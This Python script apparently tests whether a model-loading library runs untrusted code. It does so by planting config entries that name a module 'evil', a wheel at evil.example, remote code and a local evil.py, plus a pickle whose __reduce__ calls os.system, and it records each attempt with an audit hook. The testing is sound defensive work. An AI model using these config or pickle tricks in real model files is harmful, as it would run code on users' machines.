"""Load models whose files name code, from a folder and from a Hub on loopback, and watch what
Python does meanwhile. An audit hook cannot be taken out again, so this runs in a process of its
own: `python untrusted.py FOLDER`, where FOLDER has the saved models `hub/org/name` and
`hub/org/plain`, and a module `evil` is on the path. Prints what each attempt came to, from the
folder and from the Hub, and what was seen, as JSON."""

from __future__ import annotations

import contextlib
import copy
import io
import json
import os
import pickle
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

from hub import Hub

HOME = Path(sys.argv[1])
HUB = Hub()
RAN = ("subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.spawn",
       "pickle.find_class")
CODE = ("evil", "sleeper", "pip", "ensurepip")
seen: list[str] = []


def watch(event: str, arguments: tuple[Any, ...]) -> None:
    if event in RAN:
        seen.append(f"{event} {arguments[:2]}")
    elif event == "import" and str(arguments[0]).partition(".")[0] in CODE:
        seen.append(f"import {arguments[0]}")
    elif event == "socket.connect" and "127.0.0.1" not in str(arguments[1]):
        seen.append(f"connect to {arguments[1]}")


class Pickled:
    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, ("echo unpickled",)


def build(config: Any) -> Any:
    """How the first member is built; it is a timm network."""
    return config["zoo"]["model"]["members"][0]["build"]


def requires(needed: dict[str, str]) -> Callable[[Any], Any]:
    return lambda config: config["zoo"].update(requires=[needed])


OURS: dict[str, Callable[[Any], Any]] = {
    "an unknown plugin": requires({"namespace": "evil", "requirement": "evil>=1"}),
    "a wheel": requires({"namespace": "evil", "requirement": "evil @ https://evil.example/e.whl"}),
    "a module to understand": lambda c: c["zoo"].update(must_understand=["evil"]),
    "a namespace": lambda c: build(c).update(backbone="evil/net"),
    "a module": lambda c: build(c).update(backbone="evil:run"),
    "a builder": lambda c: build(c).update(build="evil:run"),
    "a strategy": lambda c: c["zoo"]["model"]["fusion"].update(strategy="evil/run"),
    "an option": lambda c: c["zoo"]["model"]["fusion"].update(options={"norm": "evil:run"}),
    "an activation": lambda c: build(c).update(activation="evil.run"),
    "a file": lambda c: build(c).update(backbone="./evil.py"),
}
PLAIN: dict[str, Callable[[Any], Any]] = {
    "an architecture": lambda c: c.update(architecture="evil.run"),
    "another repository": lambda c: c.update(architecture="hf-hub:evil/net"),
    "an argument": lambda c: c.update(model_args={"block": "evil.run"}),
    "a layer": lambda c: c.update(model_args={"act_layer": "evil.run"}),
    "remote code": lambda c: (c.update(auto_map={"AutoModel": "evil.run"}, architecture="gone")),
}


def attempt(change: Callable[[Any], Any], repository: str) -> str:
    """Load the model with another config from a folder, then from the Hub, and show it."""
    import zoo
    from zoo.cli import main as cli

    folder = HOME / "hub" / repository
    config = json.loads((folder / "config.json").read_text("utf-8"))
    changed = copy.deepcopy(config)
    change(changed)
    (folder / "config.json").write_text(json.dumps(changed))
    HUB.store.seed(repository, folder)
    told = []
    for where in (folder, f"hf-hub:{repository}"):
        try:
            zoo.load(where, device="cpu")
            told.append("loaded")
        except zoo.ZooError as error:
            told.append(type(error).__name__)
    with contextlib.suppress(SystemExit), contextlib.redirect_stdout(io.StringIO()):
        cli(["show", str(folder)])
    (folder / "config.json").write_text(json.dumps(config))
    shutil.rmtree(HOME / "cache" / "hub", ignore_errors=True)
    return " ".join(told)


def main() -> None:
    os.environ.update({
        "HF_ENDPOINT": HUB.url, "HF_HUB_DISABLE_XET": "1", "HF_HOME": str(HOME / "cache"),
        "HF_HUB_DISABLE_PROGRESS_BARS": "1",
    })
    import torch  # noqa: F401, what it does while it is imported is its own

    import zoo

    zoo.info("timm/resnet18")  # asks timm for its catalogue in a process of its own, once
    for repository in ("org/name", "org/plain"):
        zoo.load(HOME / "hub" / repository, device="cpu")
        (HOME / "hub" / repository / "evil.py").write_text("import os\nos.system('echo ran')\n")
    sys.addaudithook(watch)
    attempts = {what: attempt(change, "org/name") for what, change in OURS.items()}
    attempts |= {what: attempt(change, "org/plain") for what, change in PLAIN.items()}
    shutil.copytree(HOME / "hub/org/plain", HOME / "hub/org/pickle")
    weights = HOME / "hub/org/pickle/model.safetensors"
    weights.with_name("pytorch_model.bin").write_bytes(pickle.dumps(Pickled()))
    weights.unlink()
    attempts["a pickle"] = attempt(lambda config: None, "org/pickle")
    quiet = list(seen)

    import evil  # noqa: F401, the watch is awake

    subprocess.run([sys.executable, "-c", ""], check=True)
    print(json.dumps({"attempts": attempts, "seen": quiet, "awake": seen[len(quiet):]}))


if __name__ == "__main__":
    main()
